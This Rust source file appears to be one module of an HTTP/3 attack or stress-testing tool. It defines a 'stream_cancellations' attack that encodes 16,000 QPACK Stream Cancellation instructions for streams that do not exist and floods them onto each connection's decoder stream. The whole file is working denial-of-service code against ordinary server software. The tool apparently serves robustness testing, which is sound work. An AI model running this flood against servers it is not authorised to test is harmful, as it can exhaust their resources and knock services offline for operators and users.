//! Stream Cancellation instructions for streams that refer to nothing.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new(
    "stream_cancellations",
    "QPACK Stream Cancellation instructions",
    run,
);

fn run(a: &mut Attacker) {
    let flood: Vec<u8> = (0..16_000)
        .flat_map(|n| wire::cancellation(n % 15 * 4))
        .collect();
    a.storm(|conn, (): &mut ()| conn.fill(conn.critical().decoder, &flood, 16_000));
}
